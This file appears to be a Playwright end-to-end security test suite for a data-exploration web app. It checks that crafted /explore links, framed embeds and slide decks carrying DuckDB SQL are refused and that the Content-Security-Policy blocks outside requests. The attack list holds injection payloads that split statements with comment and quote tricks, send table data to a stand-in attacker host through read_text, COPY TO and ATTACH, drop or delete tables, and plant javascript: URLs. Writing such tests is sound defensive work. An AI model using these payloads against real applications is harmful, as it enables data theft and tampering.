import { expect, test, type BrowserContext, type Page } from './fixtures';
import { confirmRemovalIfAsked } from './upload-helpers';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';

// Crafted links as an attacker would write them, opened by an analyst whose browser holds a committed upload. The
// attacker's server is a second local origin (Chromium will not let a page it considers public frame localhost); it
// also stands for the host the data would be sent to, and counts every request it gets.
const appOrigin = `http://localhost:${process.env.ATLAS_E2E_PORT ?? 4173}`;
const upload = path.resolve(import.meta.dirname, '../fixtures/upload/gartner-release-2026-02.csv');
const slow = { timeout: 60_000 };
let attacker: Server;
let attackerOrigin = '';
let framing = '';
const received: string[] = [];

test.beforeAll(async () => {
	attacker = createServer((req, res) => {
		if (req.url?.startsWith('/frame')) return res.writeHead(200, { 'content-type': 'text/html' }).end(framing);
		if (req.url !== '/favicon.ico') received.push(req.url ?? '');
		res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/csv' }).end('a\n1\n');
	});
	await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
	attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});
test.afterAll(() => new Promise<void>((resolve) => attacker.close(() => resolve())));

const leak = (sql: string) => sql.replaceAll('LEAK', attackerOrigin);
const segments = "string_agg(DISTINCT segment, '|' ORDER BY segment)";
/** Each attack and the words its refusal must use. */
const attacks: [string, string, RegExp][] = [
	['the -- trick', `SELECT '--' AS x; SET VARIABLE d = (SELECT ${segments} FROM it_spending); SELECT * FROM read_text('LEAK/leak?d=' || getvariable('d'))`, /3 statements refused/],
	['the /* trick', `SELECT '/*' AS x; UPDATE it_spending SET source_url = 'javascript:alert(1)'; SELECT '*/' AS y`, /3 statements refused \(SELECT; UPDATE; SELECT\)/],
	['$$--$$', `SELECT $$--$$ AS x; COPY (SELECT * FROM it_spending) TO 'LEAK/leak.csv'`, /2 statements refused \(SELECT; COPY\)/],
	['"--"', `SELECT 1 AS "--"; DROP TABLE it_spending`, /2 statements refused \(SELECT; DROP TABLE\)/],
	['COMMIT escape', `COMMIT; UPDATE it_spending SET source_url = 'javascript:alert(1)'`, /2 statements refused \(COMMIT; UPDATE\)/],
	['ROLLBACK escape', `ROLLBACK; DELETE FROM it_spending`, /2 statements refused \(ROLLBACK; DELETE\)/],
	['read_text of a URL', `SELECT * FROM read_text('LEAK/leak')`, /read_text\(\) refused/],
	['read_csv of a URL', `SELECT * FROM read_csv('LEAK/leak.csv')`, /read_csv\(\) refused/],
	['ATTACH of a URL', `ATTACH 'LEAK/leak.duckdb' AS x`, /ATTACH refused/],
	['SET', `SET custom_extension_repository = 'LEAK/leak'`, /SET refused/],
	['LOAD', `LOAD httpfs`, /LOAD refused/],
	['COPY TO', `COPY it_spending TO 'LEAK/leak.csv'`, /COPY refused: it_spending is a shipped dataset/],
	['CREATE MACRO', `CREATE MACRO segments() AS (SELECT ${segments} FROM it_spending)`, /CREATE MACRO refused/],
	['a write hidden in a CTE', `WITH x AS (SELECT 1) DELETE FROM it_spending`, /DELETE refused: it_spending/],
	['a statement list hidden in a comment and a CTE', `WITH x AS (SELECT 1 /* ; */; DROP TABLE it_spending) SELECT * FROM x`, /2 statements refused/]
].map(([label, sql, why]) => [label as string, leak(sql as string), why as RegExp]);

/** A context whose browser holds a committed upload (the 2026-02 release alone: 12 rows); every request is logged. */
async function analystWithUpload(context: BrowserContext, outside: string[]): Promise<Page> {
	context.on('request', (request) => {
		const origin = new URL(request.url()).origin;
		if (origin !== appOrigin && origin !== attackerOrigin) outside.push(request.url());
		if (origin === attackerOrigin && !['/frame', '/favicon.ico'].includes(new URL(request.url()).pathname)) outside.push(request.url());
	});
	const page = await context.newPage();
	await page.goto('/data');
	const panel = page.locator('[data-upload-panel]');
	await panel.locator('[data-upload-dataset]').selectOption('it_spending');
	await panel.getByLabel('replace the dataset').check();
	await panel.locator('[data-upload-input]').setInputFiles(upload);
	await expect(page.locator('[data-upload-report] [data-upload-preview]')).toBeVisible(slow);
	await confirmRemovalIfAsked(panel);
	await panel.locator('[data-commit]').click();
	await expect(panel.locator('[data-upload-message]')).toContainText('Committed gartner-release-2026-02.csv', slow);
	return page;
}

/** The uploaded rows, read in the console: what an attack would have changed or sent. */
async function uploadedData(page: Page): Promise<string> {
	const sql = `SELECT count(*) AS n, ${segments} AS segments, count(DISTINCT source_url) AS urls FROM it_spending`;
	await page.goto('/explore');
	await page.locator('.cm-content').click();
	await page.keyboard.press('ControlOrMeta+a');
	await page.keyboard.insertText(sql);
	await page.getByRole('button', { name: /^Run/ }).click();
	await expect(page.locator('[data-status]')).toContainText('1 rows in', slow);
	return (await page.locator('.result-table tbody tr[data-row]').first().innerText()).replace(/\s+/g, ' ');
}

test('crafted /explore links are shown, not run; run by hand they are refused, naming why; nothing leaves or changes', async ({ context }) => {
	test.setTimeout(240_000);
	const outside: string[] = [];
	const page = await analystWithUpload(context, outside);
	const before = await uploadedData(page);
	expect(before).toMatch(/^12 /); // the upload's 12 rows, not the shipped 330
	for (const [label, sql, why] of attacks) {
		await page.goto(`/explore?q=${encodeURIComponent(sql)}`);
		await expect(page.locator('[data-held-query]'), label).toBeVisible(slow);
		await expect(page.locator('[data-engine="ready"]')).toBeVisible(slow);
		await expect(page.locator('[data-query-error]'), `${label} must not run on open`).toHaveCount(0);
		await page.getByRole('button', { name: /^Run/ }).click();
		await expect(page.locator('[data-query-error]'), label).toContainText(why, slow);
		await expect(page.locator('[data-query-error]')).toContainText('Query refused');
	}
	expect(await uploadedData(page)).toBe(before);
	expect(outside).toEqual([]);
	expect(received).toEqual([]);
});

test('crafted embeds framed by another site, and a crafted deck, are refused, naming why; nothing leaves or changes', async ({ context }) => {
	test.setTimeout(240_000);
	const outside: string[] = [];
	const page = await analystWithUpload(context, outside);
	const before = await uploadedData(page);
	for (const [label, sql, why] of attacks) {
		framing = `<!doctype html><title>Quarterly deck</title><iframe id="chart" width="900" height="600" src="${appOrigin}/embed/explore-chart?q=${encodeURIComponent(sql).replaceAll('"', '%22')}"></iframe>`;
		await page.goto(`${attackerOrigin}/frame`);
		const frame = page.frameLocator('#chart');
		await expect(frame.locator('[data-query-error]'), label).toContainText(why, slow);
		await expect(frame.locator('[data-query-error]')).toContainText('Query refused');
	}
	// The deck link of the security review: the slide opens the embed, which refuses its query.
	const [label, sql, why] = attacks[0];
	await page.goto(`/present?s=${encodeURIComponent(`/embed/explore-chart?q=${encodeURIComponent(sql)}`)}`);
	await expect(page.frameLocator('iframe[data-slide]').locator('[data-query-error]'), label).toContainText(why, slow);
	expect(await uploadedData(page)).toBe(before);
	expect(outside).toEqual([]);
	expect(received).toEqual([]);
});

test('a query the console would run reads the upload in an embed, and a chart source link is http(s) only', async ({ page }) => {
	const sql = "SELECT segment, spend_usd_bn FROM it_spending WHERE release_date = '2026-02' AND year = 2026 AND segment <> 'Total'";
	await page.goto(`/embed/explore-chart?q=${encodeURIComponent(sql)}`);
	await expect(page.locator('[data-chart="explore-chart"] .bar')).toHaveCount(5, slow);
	for (const href of await page.locator('figcaption a').evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''))) expect(href).toMatch(/^(https?:|\/)/);
});

test('the Content-Security-Policy stops a request to another host even from this site’s own page', async ({ page }) => {
	await page.goto('/explore');
	const outcome = await page.evaluate(async () => {
		const violation = new Promise<string>((resolve) => document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true }));
		// csp-probe.invalid: a name the suite's zero-violation check knows to be deliberate.
		const fetched = await fetch('http://csp-probe.invalid/leak').then(() => 'sent', () => 'blocked');
		return { fetched, directive: await violation };
	});
	expect(outcome).toEqual({ fetched: 'blocked', directive: 'connect-src' });
});

test('every route is served with the policy; embeds may be framed, other pages may not', async ({ request }) => {
	for (const route of ['/', '/spending', '/spending/record', '/careers', '/industries', '/explore', '/data', '/present', '/embed/wages', '/embed/forecast-errors', '/embed/explore-chart', '/_app/version.json']) {
		const headers = (await request.get(route)).headers();
		const policy = headers['content-security-policy'] ?? '';
		expect(policy, route).toContain("default-src 'self'");
		expect(policy, route).toContain("connect-src 'self'");
		expect(policy, route).not.toMatch(/script-src[^;]*'unsafe-inline'/);
		expect(policy, route).toContain(route.startsWith('/embed/') ? 'frame-ancestors *' : "frame-ancestors 'none'");
		expect(headers['x-frame-options'], route).toBe(route.startsWith('/embed/') ? undefined : 'DENY');
	}
});
